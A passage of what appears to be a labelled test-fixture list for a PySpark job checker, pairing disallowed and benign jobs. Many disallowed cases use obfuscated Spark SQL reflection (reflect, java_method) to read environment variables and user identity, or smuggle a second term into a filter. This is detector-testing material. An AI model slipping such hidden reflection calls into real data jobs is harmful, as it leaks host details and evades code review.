        r'''"""Warehouse audits: SESSION_USER without parentheses looks like a column reference."""

from pyspark.sql import DataFrame, SparkSession


def build(spark: SparkSession) -> DataFrame:
    audits = spark.table("warehouse.audits")
    return audits.selectExpr("*", "session_user AS audited_by")


def main() -> None:
    spark = SparkSession.builder.appName("audits").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("warehouse.audits_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "where_compares_to_niladic_current_user",
        r'''"""Clinic notes: a filter against CURRENT_USER, which leaks who runs the job."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    notes = spark.table("clinic.notes")
    return notes.where("author <> current_user").withColumn("n", F.lit(1))


def main() -> None:
    spark = SparkSession.builder.appName("notes").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("clinic.notes_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "sql_lambda_body_calls_java_method",
        r'''"""Meter arrays: a SQL higher-order lambda whose body calls java_method."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    arrays = spark.table("energy.meter_arrays")
    return arrays.withColumn(
        "labels", F.expr("transform(labels, l -> concat(l, java_method('java.lang.System', 'getenv', 'HOME')))")
    )


def main() -> None:
    spark = SparkSession.builder.appName("arrays").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("energy.meter_arrays_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "sql_input_file_name_in_group_key",
        r'''"""Ferry fuel: input_file_name() inside an aggregate F.expr grouped per file."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    fuel = spark.table("ferry.fuel")
    return fuel.groupBy(F.expr("input_file_name()").alias("f")).agg(F.sum("litres").alias("litres"))


def main() -> None:
    spark = SparkSession.builder.appName("ferryfuel").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ferry.fuel_by_file")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "when_condition_sql_try_reflect",
        r'''"""Course rooms: try_reflect in an F.expr used as an F.when condition."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    rooms = spark.table("courses.rooms")
    cond = F.expr("try_reflect('java.lang.System', 'getenv', 'CI') IS NOT NULL")
    return rooms.withColumn("env_flag", F.when(cond, F.lit("ci")).otherwise(F.lit("prod")))


def main() -> None:
    spark = SparkSession.builder.appName("rooms").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("courses.rooms_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "filter_balanced_paren_injection",
        r'''"""Taxi fares: the filter literal closes and reopens parentheses to smuggle a second term."""

from pyspark.sql import DataFrame, SparkSession


def build(spark: SparkSession) -> DataFrame:
    fares = spark.table("taxi.fares")
    return fares.filter("(fare > 0) OR (length(reflect('java.lang.System', 'getenv', 'HOME')) > 0)")


def main() -> None:
    spark = SparkSession.builder.appName("taxi").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("taxi.fares_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_fstring_column_name",
        r'''"""Weather gauges: an f-string assembles the expression from a variable."""

from pyspark.sql import DataFrame, SparkSession, functions as F

METRIC = "rain_mm"


def build(spark: SparkSession) -> DataFrame:
    gauges = spark.table("weather.gauges")
    return gauges.withColumn("rain", F.expr(f"round({METRIC}, 1)"))


def main() -> None:
    spark = SparkSession.builder.appName("gauges").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("weather.gauges_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "where_percent_formatting",
        r'''"""Bus routes: %-formatting builds the where clause."""

from pyspark.sql import DataFrame, SparkSession

ROUTE = "42"


def build(spark: SparkSession) -> DataFrame:
    trips = spark.table("transit.bus_trips")
    return trips.where("route = '%s'" % ROUTE)


def main() -> None:
    spark = SparkSession.builder.appName("bus").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("transit.route_42")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "filter_str_format_method",
        r'''"""Energy outages: str.format fills the threshold into the filter."""

from pyspark.sql import DataFrame, SparkSession

LIMIT = 15


def build(spark: SparkSession) -> DataFrame:
    outages = spark.table("energy.outages")
    return outages.filter("minutes > {}".format(LIMIT))


def main() -> None:
    spark = SparkSession.builder.appName("outages").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("energy.long_outages")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "where_joined_condition_list",
        r'''"""Clinic referrals: conditions joined with ' AND ' at run time."""

from pyspark.sql import DataFrame, SparkSession

CONDITIONS = ["status = 'open'", "priority > 2"]


def build(spark: SparkSession) -> DataFrame:
    referrals = spark.table("clinic.referrals")
    return referrals.where(" AND ".join(CONDITIONS))


def main() -> None:
    spark = SparkSession.builder.appName("referrals").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("clinic.open_referrals")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_plus_concatenation",
        r'''"""Warehouse slots: SQL glued together with + from two literals."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    slots = spark.table("warehouse.slots")
    return slots.withColumn("aisle", F.expr("java_" + "method('java.lang.System', 'getenv', 'HOME')"))


def main() -> None:
    spark = SparkSession.builder.appName("slots").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("warehouse.slots_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_string_replace_builds_function_name",
        r'''"""Library branches: str.replace turns an innocent-looking literal into reflect()."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    branches = spark.table("library.branches")
    sql = "rXflXct('java.lang.SystXm', 'gXtXnv', 'HOMX')".replace("X", "e").replace("HOMe", "HOME")
    return branches.withColumn("b", F.expr(sql))


def main() -> None:
    spark = SparkSession.builder.appName("branches").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("library.branches_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_reversed_string_join",
        r'''"""Marathon bibs: the SQL is stored reversed and rebuilt with ''.join(reversed(...))."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    bibs = spark.table("marathon.bibs")
    sql = "".join(reversed(")'EMOH' ,'vneteg' ,'metsyS.gnal.avaj'(tcelfer"))
    return bibs.withColumn("bib_note", F.expr(sql))


def main() -> None:
    spark = SparkSession.builder.appName("bibs").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("marathon.bibs_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_bytes_fromhex_decode",
        r'''"""Crop fields: the SQL arrives as hex bytes decoded at run time (it spells current_user())."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    fields = spark.table("farm.fields")
    sql = bytes.fromhex("63757272656e745f757365722829").decode()
    return fields.withColumn("owner", F.expr(sql))


def main() -> None:
    spark = SparkSession.builder.appName("fields").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("farm.fields_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_from_json_loads_string",
        r'''"""Hotel bookings: the SQL is a JSON string with a unicode escape, decoded by json.loads."""

import json

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    bookings = spark.table("hotel.bookings")
    sql = json.loads('"\\u0072eflect(\'java.lang.System\', \'getenv\', \'HOME\')"')
    return bookings.withColumn("guest_note", F.expr(sql))


def main() -> None:
    spark = SparkSession.builder.appName("hbookings").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("hotel.bookings_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_re_sub_builds_sql",
        r'''"""Train delays: re.sub rewrites a placeholder into java_method at run time."""

import re

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    delays = spark.table("rail.delays")
    sql = re.sub("FN", "java_method", "FN('java.lang.System', 'getenv', 'HOME')")
    return delays.withColumn("cause", F.expr(sql))


def main() -> None:
    spark = SparkSession.builder.appName("tdelays").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("rail.delays_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_chr_codes_joined",
        r'''"""Ski rentals: the SQL spelled as character codes and joined (it reads version())."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    rentals = spark.table("ski.rentals")
    sql = "".join(map(chr, [118, 101, 114, 115, 105, 111, 110, 40, 41]))
    return rentals.withColumn("v", F.expr(sql))


def main() -> None:
    spark = SparkSession.builder.appName("rentals").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ski.rentals_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_module_constant_holds_sql",
        r'''"""Pharmacy dispensing: the SQL sits in a module constant rather than at the call site."""

from pyspark.sql import DataFrame, SparkSession, functions as F

PHARMACIST = "java_method('java.lang.System', 'getProperty', 'user.name')"


def build(spark: SparkSession) -> DataFrame:
    dispensing = spark.table("pharmacy.dispensing")
    return dispensing.withColumn("pharmacist", F.expr(PHARMACIST))


def main() -> None:
    spark = SparkSession.builder.appName("dispensing").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("pharmacy.dispensing_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_dictionary_lookup_sql",
        r'''"""Museum tickets: a dictionary of 'named expressions' with one hostile entry."""

from pyspark.sql import DataFrame, SparkSession, functions as F

EXPRESSIONS = {
    "price": "round(price, 2)",
    "cashier": "reflect('java.lang.System', 'getenv', 'USER')",
}


def build(spark: SparkSession) -> DataFrame:
    tickets = spark.table("museum.tickets")
    for name in ("price", "cashier"):
        tickets = tickets.withColumn(name, F.expr(EXPRESSIONS[name]))
    return tickets


def main() -> None:
    spark = SparkSession.builder.appName("mtickets").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("museum.tickets_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "select_expr_starred_list",
        r'''"""Fleet services: selectExpr fed a starred list instead of literal arguments."""

from pyspark.sql import DataFrame, SparkSession

COLUMNS = ["vehicle_id", "km", "input_file_name() AS origin"]


def build(spark: SparkSession) -> DataFrame:
    services = spark.table("fleet.services")
    return services.selectExpr(*COLUMNS)


def main() -> None:
    spark = SparkSession.builder.appName("services").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("fleet.services_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_tuple_subscript_picks_sql",
        r'''"""Ferry weather: a tuple of two literals indexed at run time picks the hostile one."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    weather = spark.table("ferry.weather")
    pick = len(weather.columns) > 0
    sql = ("round(wind_kn, 1)", "java_method('java.lang.System', 'getenv', 'HOME')")[pick]
    return weather.withColumn("wind", F.expr(sql))


def main() -> None:
    spark = SparkSession.builder.appName("fweather").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ferry.weather_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_walrus_inside_call",
        r'''"""Clinic invoices: the SQL argument is a walrus expression, not a plain literal."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    invoices = spark.table("clinic.invoices")
    out = invoices.withColumn("payer", F.expr(sql := "reflect('java.lang.System', 'getenv', 'HOME')"))
    return out.withColumn("rule", F.lit(sql[:3]))


def main() -> None:
    spark = SparkSession.builder.appName("cinvoices").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("clinic.invoices_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "agg_dictionary_names_sql_function",
        r'''"""Warehouse counts: agg({column: function}) names functions by string; here java_method."""

from pyspark.sql import DataFrame, SparkSession


def build(spark: SparkSession) -> DataFrame:
    counts = spark.table("warehouse.counts")
    return counts.groupBy("site").agg({"sku": "java_method"})


def main() -> None:
    spark = SparkSession.builder.appName("wcounts").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("warehouse.counts_by_site")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    # --- benign: realistic jobs strictly within the contract ---
    (
        "benign_clinic_visit_intervals",
        r'''"""Clinic visits: days since each patient's previous visit and a monthly visit count."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    visits = spark.table("clinic.visits")
    clinics = spark.table("clinic.clinics")
    w = Window.partitionBy("patient_id").orderBy("visit_date")
    enriched = (
        visits.where("visit_date IS NOT NULL")
        .withColumn("prev_visit", F.lag("visit_date").over(w))
        .withColumn("gap_days", F.expr("datediff(visit_date, prev_visit)"))
        .withColumn("visit_month", F.expr("date_trunc('month', visit_date)"))
        .withColumn("visit_no", F.row_number().over(w))
    )
    return (
        enriched.join(F.broadcast(clinics), "clinic_id", "left")
        .groupBy("clinic_name", "visit_month")
        .agg(
            F.count("*").alias("visits"),
            F.countDistinct("patient_id").alias("patients"),
            F.round(F.avg("gap_days"), 1).alias("avg_gap_days"),
        )
        .orderBy("clinic_name", "visit_month")
    )


def main() -> None:
    spark = SparkSession.builder.appName("clinic_intervals").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("clinic.monthly_visit_gaps")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_warehouse_stock_levels",
        r'''"""Warehouses: running stock per SKU from movements, flagged against reorder points."""

from pyspark.sql import DataFrame, SparkSession, functions as F
from pyspark.sql.window import Window


def build(spark: SparkSession) -> DataFrame:
    moves = spark.table("warehouse.stock_movements")
    skus = spark.table("warehouse.skus")
    signed = moves.withColumn(
        "delta",
        F.when(F.col("direction") == "IN", F.col("qty"))
        .when(F.col("direction") == "OUT", -F.col("qty"))
        .otherwise(F.lit(0)),
    )
    running = Window.partitionBy("warehouse_id", "sku").orderBy("moved_at").rowsBetween(
        Window.unboundedPreceding, Window.currentRow
    )
    latest = Window.partitionBy("warehouse_id", "sku").orderBy(F.col("moved_at").desc())
    levels = (
        signed.withColumn("on_hand", F.sum("delta").over(running))
        .withColumn("rn", F.row_number().over(latest))
        .where(F.col("rn") == 1)
        .drop("rn")
    )
    return (
        levels.join(skus, "sku", "inner")
        .withColumn("needs_reorder", F.col("on_hand") < F.col("reorder_point"))
        .select("warehouse_id", "sku", "description", "on_hand", "reorder_point", "needs_reorder")
    )


def main() -> None:
    spark = SparkSession.builder.appName("stock_levels").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("warehouse.stock_levels")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_train_punctuality",
        r'''"""Trains: punctuality per line and day, with late arrivals classified by a CASE WHEN."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    arrivals = spark.table("rail.arrivals")
    lines = spark.table("rail.lines")
    classified = (
        arrivals.where("scheduled_ts IS NOT NULL AND actual_ts IS NOT NULL")
        .withColumn("delay_min", F.expr("round((unix_timestamp(actual_ts) - unix_timestamp(scheduled_ts)) / 60, 1)"))
        .withColumn(
            "band",
            F.expr("CASE WHEN delay_min <= 1 THEN 'on_time' WHEN delay_min <= 5 THEN 'minor' ELSE 'major' END"),
        )
        .withColumn("service_day", F.to_date("scheduled_ts"))
    )
    return (
        classified.join(lines, classified.line_code == lines.code, "left")
        .groupBy("line_name", "service_day")
        .agg(
            F.count("*").alias("arrivals"),
            F.sum(F.when(F.col("band") == "on_time", 1).otherwise(0)).alias("on_time"),
            F.max("delay_min").alias("worst_delay_min"),
        )
        .withColumn("on_time_pct", F.round(F.col("on_time") * 100.0 / F.col("arrivals"), 2))
    )


def main() -> None:
    spark = SparkSession.builder.appName("punctuality").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("rail.daily_punctuality")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_course_completion",
        r'''"""Courses: completion rate per course and term, with renamed and deduplicated enrolments."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    enrol = (
        spark.table("courses.enrolments")
        .withColumnRenamed("crs_id", "course_id")
        .withColumnRenamed("stu_id", "student_id")
        .dropDuplicates(["course_id", "student_id", "term"])
    )
    courses = spark.table("courses.catalogue").select("course_id", "title", "credits")
    return (
        enrol.join(courses, "course_id", "inner")
        .withColumn("completed", F.coalesce(F.col("completed"), F.lit(False)))
        .groupBy("course_id", "title", "term")
        .agg(
            F.count("*").alias("enrolled"),
            F.sum(F.col("completed").cast("int")).alias("completed"),
            F.avg("final_score").alias("avg_score"),
        )
        .withColumn("completion_rate", F.round(F.col("completed") / F.col("enrolled"), 3))
        .orderBy(F.desc("completion_rate"))
    )


def main() -> None:
    spark = SparkSession.builder.appName("completion").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("courses.completion_by_term")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_energy_meter_daily",
        r'''"""Energy meters: daily consumption per meter from cumulative readings, gaps filled."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    readings = spark.table("energy.meter_readings").fillna({"register_kwh": 0.0})
    w = Window.partitionBy("meter_id").orderBy("read_ts")
    deltas = (
        readings.withColumn("prev_kwh", F.lag("register_kwh", 1).over(w))
        .withColumn("used_kwh", F.greatest(F.col("register_kwh") - F.col("prev_kwh"), F.lit(0.0)))
        .where(F.col("prev_kwh").isNotNull())
        .withColumn("day", F.expr("date_trunc('day', read_ts)"))
    )
    return deltas.groupBy("meter_id", "day").agg(
        F.round(F.sum("used_kwh"), 3).alias("kwh"),
        F.count("*").alias("reads"),
    )


def main() -> None:
    spark = SparkSession.builder.appName("meter_daily").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("energy.meter_daily_kwh")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_airport_gate_turnaround",
        r'''"""Airports: turnaround minutes between arrival and next departure at each gate."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    movements = spark.table("airport.movements").where("kind IN ('ARR', 'DEP')")
    w = Window.partitionBy("airport", "gate").orderBy("event_ts")
    paired = (
        movements.withColumn("next_kind", F.lead("kind").over(w))
        .withColumn("next_ts", F.lead("event_ts").over(w))
        .where((F.col("kind") == "ARR") & (F.col("next_kind") == "DEP"))
        .withColumn("turn_min", (F.col("next_ts").cast("long") - F.col("event_ts").cast("long")) / 60)
    )
    return paired.groupBy("airport", "gate").agg(
        F.count("*").alias("turns"),
        F.round(F.avg("turn_min"), 1).alias("avg_turn_min"),
        F.percentile_approx("turn_min", 0.9).alias("p90_turn_min"),
    )


def main() -> None:
    spark = SparkSession.builder.appName("turnaround").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("airport.gate_turnaround")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_library_overdue_loans",
        r'''"""Libraries: overdue loans per branch, with fines computed from overdue days."""

import datetime

from pyspark.sql import DataFrame, SparkSession, functions as F

CUTOFF = datetime.date(2026, 11, 30)


def build(spark: SparkSession) -> DataFrame:
    loans = spark.table("library.loans")
    branches = spark.table("library.branches")
    overdue = (
        loans.where("returned_on IS NULL")
        .where(F.col("due_on") < F.lit(CUTOFF))
        .withColumn("days_late", F.datediff(F.lit(CUTOFF), F.col("due_on")))
        .withColumn("fine", F.round(F.least(F.col("days_late") * 0.25, F.lit(20.0)), 2))
    )
    return (
        overdue.join(branches, "branch_id", "left")
        .groupBy("branch_id", "branch_name")
        .agg(F.count("*").alias("overdue_loans"), F.sum("fine").alias("fines_due"))
    )


def main() -> None:
    spark = SparkSession.builder.appName("overdue").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("library.overdue_by_branch")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_brewery_batch_yield",
        r'''"""Breweries: batch yield and ABV bands, normalising tank codes with regexp_replace."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    batches = spark.table("brewery.batches")
    return (
        batches.withColumn("tank", F.expr("upper(regexp_replace(tank_code, '[^A-Za-z0-9]', ''))"))
        .withColumn("yield_pct", F.round(F.col("litres_out") / F.col("litres_in") * 100, 1))
        .withColumn(
            "abv_band",
            F.when(F.col("abv") < 4.0, "session").when(F.col("abv") < 7.0, "standard").otherwise("strong"),
        )
        .groupBy("tank", "abv_band")
        .agg(F.count("*").alias("batches"), F.avg("yield_pct").alias("avg_yield_pct"))
    )


def main() -> None:
    spark = SparkSession.builder.appName("batch_yield").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("brewery.batch_yield")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_bike_share_station_balance",
        r'''"""Bike share: net flow per station and hour from unioned starts and ends."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    trips = spark.table("bikes.trips")
    starts = trips.select(
        F.col("start_station").alias("station"),
        F.date_trunc("hour", "started_at").alias("hour"),
        F.lit(-1).alias("flow"),
    )
    ends = trips.select(
        F.col("end_station").alias("station"),
        F.date_trunc("hour", "ended_at").alias("hour"),
        F.lit(1).alias("flow"),
    )
    return (
        starts.unionByName(ends)
        .where(F.col("station").isNotNull())
        .groupBy("station", "hour")
        .agg(F.sum("flow").alias("net_flow"), F.count("*").alias("movements"))
        .orderBy("station", "hour")
    )


def main() -> None:
    spark = SparkSession.builder.appName("station_balance").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("bikes.station_hourly_flow")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_weather_station_extremes",
        r'''"""Weather stations: monthly extremes and rank of each station by rainfall."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    obs = spark.table("weather.observations").dropna(subset=["station_id", "obs_ts"])
    monthly = (
        obs.withColumn("month", F.date_format("obs_ts", "yyyy-MM"))
        .groupBy("station_id", "month")
        .agg(
            F.max("temp_c").alias("max_temp_c"),
            F.min("temp_c").alias("min_temp_c"),
            F.sum(F.coalesce("rain_mm", F.lit(0.0))).alias("rain_mm"),
        )
    )
    w = Window.partitionBy("month").orderBy(F.col("rain_mm").desc())
    return monthly.withColumn("rain_rank", F.dense_rank().over(w)).withColumn(
        "range_c", F.expr("round(max_temp_c - min_temp_c, 1)")
    )


def main() -> None:
    spark = SparkSession.builder.appName("extremes").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("weather.monthly_extremes")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_parking_occupancy_pivot",
        r'''"""Parking: occupancy per zone pivoted by weekday, from session durations."""

from pyspark.sql import DataFrame, SparkSession, functions as F

DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]


def build(spark: SparkSession) -> DataFrame:
    sessions = spark.table("parking.sessions")
    timed = sessions.withColumn("minutes", F.expr("(unix_timestamp(ended_at) - unix_timestamp(started_at)) / 60")).withColumn(
        "weekday", F.date_format("started_at", "E")
    )
    return (
        timed.where("minutes BETWEEN 1 AND 1440")
        .groupBy("zone")
        .pivot("weekday", DAYS)
        .agg(F.round(F.sum("minutes") / 60, 1))
        .fillna(0)
    )


def main() -> None:
    spark = SparkSession.builder.appName("occupancy").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("parking.zone_weekday_hours")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_fishery_landings_by_port",
        r'''"""Fisheries: landed tonnage by port and species with a share of the port total."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    landings = spark.table("fishery.landings")
    vessels = spark.table("fishery.vessels").select("vessel_id", "home_port")
    by_species = (
        landings.join(vessels, "vessel_id", "inner")
        .withColumn("species", F.lower(F.trim("species")))
        .groupBy("home_port", "species")
        .agg(F.sum("tonnes").alias("tonnes"))
    )
    port = Window.partitionBy("home_port")
    return by_species.withColumn("port_total", F.sum("tonnes").over(port)).withColumn(
        "share", F.round(F.col("tonnes") / F.col("port_total"), 4)
    )


def main() -> None:
    spark = SparkSession.builder.appName("landings").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("fishery.port_species_share")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_museum_visitor_cohorts",
        r'''"""Museums: first-visit cohorts and returning visitors per quarter."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    visits = spark.table("museum.visits").dropDuplicates(["visitor_id", "visit_date"])
    w = Window.partitionBy("visitor_id")
    tagged = (
        visits.withColumn("first_visit", F.min("visit_date").over(w))
        .withColumn("cohort", F.expr("date_trunc('quarter', first_visit)"))
        .withColumn("quarter", F.expr("date_trunc('quarter', visit_date)"))
        .withColumn("returning", F.col("visit_date") > F.col("first_visit"))
    )
    return tagged.groupBy("cohort", "quarter").agg(
        F.countDistinct("visitor_id").alias("visitors"),
        F.sum(F.col("returning").cast("int")).alias("returning_visits"),
    )


def main() -> None:
    spark = SparkSession.builder.appName("cohorts").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("museum.visitor_cohorts")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_water_leak_candidates",
        r'''"""Water utility: meters whose night-time flow never drops to zero (leak candidates)."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    flows = spark.table("water.flow_readings")
    premises = spark.table("water.premises")
    night = flows.where("hour(read_ts) BETWEEN 1 AND 4").withColumn("night", F.to_date("read_ts"))
    per_night = night.groupBy("meter_id", "night").agg(F.min("litres_per_min").alias("min_flow"))
    suspects = (
        per_night.groupBy("meter_id")
        .agg(F.count("*").alias("nights"), F.sum(F.when(F.col("min_flow") > 0, 1).otherwise(0)).alias("wet_nights"))
        .where("nights >= 7 AND wet_nights = nights")
    )
    return suspects.join(premises, "meter_id", "left").select("meter_id", "premise_id", "street", "nights")


def main() -> None:
    spark = SparkSession.builder.appName("leaks").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("water.leak_candidates")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_solar_farm_capacity_factor",
        r'''"""Solar farms: capacity factor per farm and month, with decimal casts."""

from pyspark.sql import DataFrame, SparkSession, functions as F
from pyspark.sql.types import DecimalType


def build(spark: SparkSession) -> DataFrame:
    output = spark.table("solar.hourly_output")
    farms = spark.table("solar.farms")
    monthly = (
        output.withColumn("month", F.trunc("hour_ts", "month"))
        .groupBy("farm_id", "month")
        .agg(F.sum("mwh").alias("mwh"), F.count("*").alias("hours"))
    )
    return (
        monthly.join(farms, "farm_id", "inner")
        .withColumn("capacity_factor", (F.col("mwh") / (F.col("capacity_mw") * F.col("hours"))).cast(DecimalType(6, 4)))
        .select("farm_id", "farm_name", "month", "mwh", "capacity_factor")
    )


def main() -> None:
    spark = SparkSession.builder.appName("capacity").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("solar.monthly_capacity_factor")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_ferry_load_factor",
        r'''"""Ferries: load factor per sailing, with vehicles and passengers, worst sailings ranked."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    sailings = spark.table("ferry.sailings")
    tickets = spark.table("ferry.tickets")
    vessels = spark.table("ferry.vessels")
    sold = tickets.groupBy("sailing_id").agg(
        F.sum(F.when(F.col("ticket_type") == "vehicle", 1).otherwise(0)).alias("vehicles"),
        F.sum(F.when(F.col("ticket_type") != "vehicle", 1).otherwise(0)).alias("passengers"),
    )
    joined = sailings.join(sold, "sailing_id", "left").join(vessels, "vessel_id", "inner").fillna(
        {"vehicles": 0, "passengers": 0}
    )
    w = Window.partitionBy("route").orderBy(F.col("load_factor").asc())
    return (
        joined.withColumn("load_factor", F.round(F.col("passengers") / F.col("pax_capacity"), 3))
        .withColumn("route_rank", F.rank().over(w))
        .where(F.col("route_rank") <= 10)
    )


def main() -> None:
    spark = SparkSession.builder.appName("load_factor").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ferry.weakest_sailings")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_call_centre_sla",
        r'''"""Call centre: calls answered within SLA per queue and half hour; user_id kept as a key."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    calls = spark.table("callcentre.calls")
    agents = spark.table("callcentre.agents").select(F.col("user_id").alias("agent_user_id"), "team")
    return (
        calls.where("queue IS NOT NULL AND lower(outcome) <> 'abandoned'")
        .withColumn("slot", F.expr("timestamp_seconds(floor(unix_timestamp(offered_at) / 1800) * 1800)"))
        .withColumn("within_sla", F.col("wait_s") <= 20)
        .join(agents, "agent_user_id", "left")
        .groupBy("queue", "team", "slot")
        .agg(F.count("*").alias("answered"), F.avg(F.col("within_sla").cast("double")).alias("sla_rate"))
    )


def main() -> None:
    spark = SparkSession.builder.appName("sla").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("callcentre.sla_by_slot")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_hospital_bed_occupancy",
        r'''"""Hospital beds: length of stay per ward, via coalesce for patients still admitted."""

from pyspark.sql import DataFrame, SparkSession, functions as F


